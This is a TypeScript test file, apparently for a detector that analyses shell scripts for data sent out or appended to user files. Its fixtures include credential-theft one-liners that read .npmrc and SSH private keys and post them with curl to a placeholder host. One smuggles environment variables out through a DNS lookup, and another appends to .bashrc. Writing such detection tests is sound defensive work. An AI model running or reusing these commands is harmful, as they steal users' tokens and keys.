import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { readScript } from '../script.ts';
import { addedByShell, sentByShell } from './shell-words.ts';

const told = (script: string, by: typeof sentByShell): string[] =>
  by(readScript('a.sh', script).uses).map(({ module, path, args: [first] }) => `${module}:${path} ${first?.text ?? ''}`.trim());

const SENT: readonly (readonly [script: string, uses: readonly string[]])[] = [
  [
    'for f in .npmrc .ssh/id_rsa; do\n  cat "$HOME/$f"\ndone | curl -s --data-binary @- https://a.invalid/b',
    ['fs:readFileSync */.npmrc', 'fs:readFileSync */.ssh/id_rsa', ':fetch https://a.invalid/b'],
  ],
  ['T=$(cut -d= -f2 ~/.npmrc)\ncurl -s -H "x: $T" https://a.invalid', ['fs:readFileSync <home>/.npmrc', ':fetch https://a.invalid']],
  ['dig +short "$(env | base64 -w0).b.invalid"', [':process.env', 'dns:resolve *.b.invalid']],
  ['ls ~/.ssh/id_* | xargs -I{} curl -s -F f=@{} https://a.invalid', ['fs:readFileSync <home>/.ssh/id_*', ':fetch https://a.invalid']],
  [
    'find "$HOME" -maxdepth 2 -name \'id_*\' -exec cat {} + > "$out"\ncurl --data-binary @"$out" https://a.invalid',
    ['fs:readFileSync <home>/*/id_*', ':fetch https://a.invalid'],
  ],
  ['find src -name "id_*" -exec cat {} + > a\ncurl -d @a https://a.invalid', []],
  ['curl -fsSL https://a.invalid/x -o "$HOME/.cache/x"', []],
  ['cat ~/.npmrc\necho "curl -d is nice"', []],
  ['curl -s -d done=1 https://a.invalid', []],
];

describe('what a script of a shell sends', () => {
  for (const [script, uses] of SENT) it(script.replaceAll('\n', '; '), () => assert.deepEqual(told(script, sentByShell), uses));
});

const ADDED: readonly (readonly [script: string, uses: readonly string[]])[] = [
  ['rc="$HOME/.bashrc"\nadd() { printf "%s" "$2" >> "$1"; }\nadd "$rc" x', ['fs:appendFileSync <home>/.bashrc']],
  ['. "$HOME/.bashrc"\necho x >> log.txt', []],
  ['log="$HOME/.cache/log"\necho x >> "$log"', []],
];

describe('what a script of a shell adds to files of the user', () => {
  for (const [script, uses] of ADDED) it(script.replaceAll('\n', '; '), () => assert.deepEqual(told(script, addedByShell), uses));
});
